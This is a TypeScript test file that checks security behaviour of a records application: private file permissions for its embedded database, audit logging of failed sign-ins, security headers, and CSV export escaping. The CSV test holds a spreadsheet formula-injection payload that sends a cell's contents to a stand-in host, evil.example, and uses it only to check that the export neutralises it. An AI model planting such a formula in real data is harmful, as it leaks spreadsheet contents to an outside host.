import { chmodSync, mkdirSync, mkdtempSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase, queryRows } from '../src/platform/db/database';
import { auth, createTestApp, targets, type TestApp } from './harness';
import { buildPerson } from './factories';

/** Every file and folder under `root` with group or other permission bits. */
function looseModes(root: string): string[] {
  const loose: string[] = [];
  const stack = [root];
  while (stack.length > 0) {
    const dir = stack.pop()!;
    if ((statSync(dir).mode & 0o077) !== 0) loose.push(`${dir} ${(statSync(dir).mode & 0o777).toString(8)}`);
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const path = join(dir, entry.name);
      if (entry.isDirectory()) stack.push(path);
      else if (entry.isFile() && (statSync(path).mode & 0o077) !== 0) loose.push(`${path} ${(statSync(path).mode & 0o777).toString(8)}`);
    }
  }
  return loose;
}

describe('the embedded database on disk', () => {
  // PGlite's first start on disk (initdb into files) takes 10-40 s on this shared machine: a longer timeout.
  it('keeps the data folder private (folders 0700, files 0600), tightening what it finds on start', { timeout: 180_000 }, async () => {
    const root = mkdtempSync(join(tmpdir(), 'custos-at-rest-'));
    const umask = process.umask(0o022); // the usual umask, which gave 0644 files in 0755 folders
    try {
      const dataDir = join(root, 'data');
      // A folder restored from a backup with loose modes.
      mkdirSync(join(dataDir, 'pglite'), { recursive: true, mode: 0o755 });
      chmodSync(dataDir, 0o755);
      writeFileSync(join(dataDir, 'template.key'), 'x', { mode: 0o666 });
      chmodSync(join(dataDir, 'template.key'), 0o666);
      const db = await openDatabase({ dataDir });
      // While it runs, the folders keep everyone else out (PGlite itself sets 0666 on the files it writes).
      expect(looseModes(dataDir).filter((l) => !l.includes('/pglite/'))).toEqual([]);
      expect(statSync(join(dataDir, 'pglite')).mode & 0o777).toBe(0o700);
      await db.exec('create table t (x int); insert into t values (1)');
      await db.close();
      expect(looseModes(dataDir)).toEqual([]);
    } finally {
      process.umask(umask);
      rmSync(root, { recursive: true, force: true });
    }
  });
});

for (const target of await targets()) {
  describe(`records and answers on ${target}`, () => {
    let app: TestApp;
    let token: string;
    let personId: string;

    beforeAll(async () => {
      app = await createTestApp(target);
      token = await app.tokenFor('admin');
      personId = await buildPerson(app.services);
    });
    afterAll(async () => app?.close());

    it('never writes a sign-in name that matches no user into the audit log', async () => {
      const typed = 'Correct-Horse-Battery-42';
      const res = await app.http.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { username: typed, password: 'x' } });
      expect(res.statusCode).toBe(401);
      const rows = await queryRows<{ row: string }>(app.services.database.db, sql`select row_to_json(a)::text as row from audit_log a`);
      expect(rows.some((r) => r.row.includes('auth.login_failed'))).toBe(true);
      expect(rows.filter((r) => r.row.toLowerCase().includes(typed.toLowerCase()))).toEqual([]);
    });

    it('sends security headers, and no-store on every API answer', async () => {
      const res = await app.http.inject({ method: 'GET', url: `/api/v1/persons/${personId}`, headers: auth(token) });
      expect(res.statusCode).toBe(200);
      expect(res.headers['cache-control']).toBe('no-store');
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(String(res.headers['content-security-policy'])).toContain("frame-ancestors 'none'");
      const error = await app.http.inject({ method: 'GET', url: '/api/v1/persons', headers: {} });
      expect(error.headers['cache-control']).toBe('no-store');
    });

    it('escapes facility names that a spreadsheet would run as formulas in the status CSV', async () => {
      const name = '=HYPERLINK("http://evil.example/?"&A1,"open")';
      const created = await app.http.inject({ method: 'POST', url: '/api/v1/facilities', headers: auth(token), payload: { code: 'CSV1', name, kind: 'camp' } });
      expect(created.statusCode).toBe(201);
      const csv = await app.http.inject({ method: 'GET', url: '/api/v1/reports/status?format=csv', headers: auth(token) });
      expect(csv.statusCode).toBe(200);
      const line = csv.body.split('\n').find((l) => l.startsWith('CSV1,'))!;
      expect(line).toContain(`"'=HYPERLINK(`);
      expect(line.split(',')[1]).not.toMatch(/^"?=/);
    });
  });
}
